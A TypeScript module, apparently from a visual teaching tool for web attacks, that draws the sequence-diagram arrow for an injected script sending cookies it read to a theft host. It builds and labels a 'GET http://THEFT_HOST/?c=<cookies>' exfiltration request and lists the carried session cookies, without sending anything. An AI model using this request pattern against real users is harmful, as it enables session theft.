/** The arrow of an injected script that sends the cookies it read to another site. */
import type { ActionEvent } from '$lib/engine/events';
import type { SessionLabeler } from './scene';
import { fitText, SANS_CHAR, textWidth } from './text';
import { SEQUENCE } from './row-height';
import { siteId, THEFT_HOST, type SequenceColumns } from './sequence-columns';
import { chipRow, type ChipItem } from './sequence-chips';
import { cookieHeaderText } from './drawn-cookies';
import type { Arrow } from './sequence-rows';

/** The arrow of an injected script sending the cookies it read to another site. */
export function theftArrow(
	event: ActionEvent,
	top: number,
	columns: SequenceColumns,
	labelOf: SessionLabeler
): Arrow | null {
	const cookies = event.cookies ?? [];
	const bx = columns.x.get(event.subjects[0] ?? '');
	const sx = columns.x.get(siteId(THEFT_HOST));
	if (!cookies.length || bx === undefined || sx === undefined) return null;
	const y = top + SEQUENCE.actionHeight + 18;
	const query = encodeURIComponent(cookieHeaderText(cookies));
	const full = `GET http://${THEFT_HOST}/?c=${query} (sent by the injected script)`;
	const caption = 'Carries:';
	const items = cookies.map((cookie): ChipItem => {
		const session = labelOf(cookie.value);
		return {
			text: session ?? cookie.name,
			full: `${cookie.name}=${cookie.value}`,
			session
		};
	});
	const chipsX = bx + 18 + textWidth(caption, SANS_CHAR);
	return {
		y,
		xs: [bx, sx],
		label: fitText(`GET /?c=${query}`, sx - bx - 20),
		full,
		labelX: bx + 10,
		labelY: y - 9,
		anchor: 'start',
		chipsCaption: caption,
		captionX: bx + 10,
		chips: chipRow(items, chipsX, Math.max(sx, chipsX + 200) - 10, y + 8)
	};
}
